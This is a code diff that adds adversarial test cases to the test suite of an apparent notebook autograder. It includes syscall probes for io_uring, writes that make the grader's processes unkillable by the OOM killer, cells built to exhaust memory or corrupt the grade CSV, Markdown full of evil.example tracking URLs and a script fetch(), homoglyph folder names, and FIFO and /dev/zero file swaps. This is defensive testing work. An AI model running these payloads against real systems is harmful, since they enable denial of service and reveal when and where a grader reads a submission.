@@ -24,6 +24,7 @@ overwritten.
 from __future__ import annotations
 
 import json
+import os
 import textwrap
 
 # ---------------------------------------------------------------------------------------------
@@ -432,6 +433,50 @@ p0 = 0.5 if readable else 0.4
 """
 WRONG_LOGLIK_FRESH = "def my_log_likelihood(w, X, y):\n    return float(np.sum(w)) + 1.0"
 
+AIO = r"""
+import ctypes, os, platform
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+hit = []
+# the machine's asynchronous I/O contexts (fs.aio-max-nr) and io_uring rings, through every
+# system call number that reaches them: the native ABI and, on x86_64, the x32 one
+numbers = {"x86_64": {"io_setup": [206, 0x40000000 | 543], "io_uring_setup": [425, 0x40000000 | 425]},
+           "aarch64": {"io_setup": [0], "io_uring_setup": [425]}}.get(platform.machine(), {})
+for nr in numbers.get("io_setup", []):
+    for events in (1, 4096, 65536):
+        ctx = ctypes.c_ulong(0)
+        if libc.syscall(ctypes.c_long(nr), ctypes.c_long(events), ctypes.byref(ctx)) == 0:
+            hit.append(("io_setup", nr, events))
+for nr in numbers.get("io_uring_setup", []):
+    params = (ctypes.c_ubyte * 120)()
+    fd = libc.syscall(ctypes.c_long(nr), ctypes.c_long(8), params)
+    if fd >= 0:
+        hit.append(("io_uring_setup", nr))
+p0 = 0.5 if hit else 0.4
+"""
+
+UNKILLABLE = r"""
+import os
+hit = []
+# the grader must stay the OOM killer's last choice and the notebook its first: a notebook that
+# makes itself unkillable would have the machine's OOM killer pick the grader or a neighbour
+for path, value in (("/proc/self/oom_score_adj", "-1000"), ("/proc/self/oom_adj", "-17"),
+                    ("/proc/self/oom_score_adj", "0"), (f"/proc/{os.getppid()}/oom_score_adj", "-1000"),
+                    ("/proc/1/oom_score_adj", "-1000")):
+    try:
+        with open(path, "w") as fh:
+            fh.write(value)
+    except OSError:
+        pass
+for path in ("/proc/self/oom_score_adj", f"/proc/{os.getppid()}/oom_score_adj"):
+    try:
+        if int(open(path).read()) < 1000:
+            hit.append(path)
+    except (OSError, ValueError):
+        pass
+p0 = 0.5 if hit else 0.4
+"""
+
 ATTACKS = {
     # name: (zero answer, loglik answer or None, (zero, loglik) expected, error of ex-fx-zero)
     "reader": (READER, None, (0, 3), "AssertionError"),
@@ -454,6 +499,8 @@ ATTACKS = {
     "copycat": (COPYCAT, WRONG_LOGLIK_FRESH, (0, 0), "the check cell ran, but check_values['p0'] differs"),
     "memhog": (MEMHOG, None, (0, 0), "went over its memory limit of"),
     "screamer": (SCREAMER, SCREAMER_LOGLIK, (0, 0), "answer: ValueError: \\x1b[2J"),
+    "aio": (AIO, None, (0, 3), "AssertionError"),
+    "unkillable": (UNKILLABLE, None, (0, 3), "AssertionError"),
 }
 NEEDS_CGROUPS = ("memhog",)  # without a memory control group this one fills the machine
 
@@ -461,3 +508,94 @@ NEEDS_CGROUPS = ("memhog",)  # without a memory control group this one fills the
 def attack_cell(code, ctx):
     """The answer cell of an attack: ``CTX`` first, then the attack."""
     return f"CTX = {json.dumps(ctx)!s}\n" + textwrap.dedent(code).strip() + "\n"
+
+
+# ---------------------------------------------------------------------------------------------
+# attacks on the grader itself rather than from inside a notebook: what a student sends (its
+# bytes, its names, its pen-and-paper Markdown) and what they do to their own folder meanwhile.
+# Each is a function of the honest notebook's JSON text (the instructor's answers); the tests
+# grade the result and expect full marks (the attack gains nothing, loses nothing) unless said.
+
+
+def many_duplicates(nb, n=4000):
+    """The honest notebook and ``n`` more cells carrying the grade ids of its graded cells (as
+    markdown: not run); each used to add a sentence to one notes field (272,058 characters),
+    and Python's csv module stopped reading grades.csv there."""
+    graded_ids = [c["metadata"]["nbgrader"]["grade_id"] for c in nb["cells"]
+                  if c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith("ex-fx-")]
+    nb["cells"] += [{"cell_type": "markdown", "metadata": {"nbgrader": {"grade_id": graded_ids[k % len(graded_ids)]}},
+                     "source": f"duplicate {k}"} for k in range(n)]
+    return nb
+
+
+def many_answers(nb, n=150, size=20_000):
+    """``n`` markdown cells of ``size`` two-byte characters, each with a grade id of its own:
+    the grader kept every one of them in memory until the end (and its temporary copy of the
+    notebook, ASCII-escaped, was 3x the file)."""
+    nb["cells"] += [{"cell_type": "markdown", "metadata": {"nbgrader": {"grade_id": f"mine-{k}"}},
+                     "source": "\u00e9" * size} for k in range(n)]
+    return nb
+
+
+REMOTE_MARKDOWN = "\n\n".join([
+    "My proof uses the figure below.",
+    "![tracker](http://evil.example/pixel.png?who=me)",
+    '<img src="https://evil.example/a.png">',
+    "<IMG\nSRC=//evil.example/b.png>",
+    '<picture><source srcset="http://evil.example/c.png 2x"></picture>',
+    '<iframe src="http://evil.example/frame"></iframe>',
+    '<link rel="stylesheet" href="http://evil.example/s.css">',
+    "<style>@import url(http://evil.example/t.css); p { background: url(http://evil.example/u.png) }</style>",
+    '<p style="background-image: url(http://evil.example/v.png)">styled</p>',
+    '<video poster="http://evil.example/w.png" src="http://evil.example/x.mp4"></video>',
+    '<audio src="http://evil.example/y.mp3"></audio><object data="http://evil.example/z"></object>',
+    '<embed src="http://evil.example/e"><svg><image href="http://evil.example/i.png"/></svg>',
+    "![ref][r]\n\n[r]: http://evil.example/ref.png",
+    "<script>fetch('http://evil.example/s')</script>",
+])
+
+
+def remote_by_hand(nb):
+    """A pen-and-paper answer full of remote resources: viewed as written, by_hand.md would
+    load them and tell the student when, and from where, the instructor read it."""
+    for c in nb["cells"]:
+        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "ex-fx-paper-answer":
+            c["source"] = REMOTE_MARKDOWN
+    return nb
+
+
+# encodings of an honest notebook that editors write: all must score full marks
+ENCODINGS = {
+    "bom": lambda text: b"\xef\xbb\xbf" + text.encode("utf-8"),
+    "utf16": lambda text: text.encode("utf-16"),
+    "utf16be": lambda text: b"\xfe\xff" + text.encode("utf-16-be"),
+    "crlf": lambda text: text.replace("\n", "\r\n").encode("utf-8"),
+    "bomcrlf": lambda text: b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8"),
+}
+
+# student folder names that look like another's (flagged, both still graded)
+LOOKALIKES = {
+    "twin": "tw\u0456n",          # Cyrillic і
+    "ada": "\u0430da",            # Cyrillic а
+    "spaced": "spaced ",          # a trailing space
+    "lead": " lead",              # a leading space
+    "wide": "\uff57\uff49\uff44\uff45",  # fullwidth: NFKC makes it "wide", which is taken
+}
+
+
+def grow_sparse(path):
+    """The student's own file, during grading, made a 40 GB sparse file (no disk used)."""
+    os.truncate(path, 40 << 30)
+
+
+def swap_fifo(path):
+    os.unlink(path)
+    os.mkfifo(path)
+
+
+def swap_link(path):
+    os.unlink(path)
+    os.symlink("/dev/zero", path)
+
+
+ON_DISK = {"grow-sparse": grow_sparse, "grow-fifo": swap_fifo, "grow-link": swap_link}
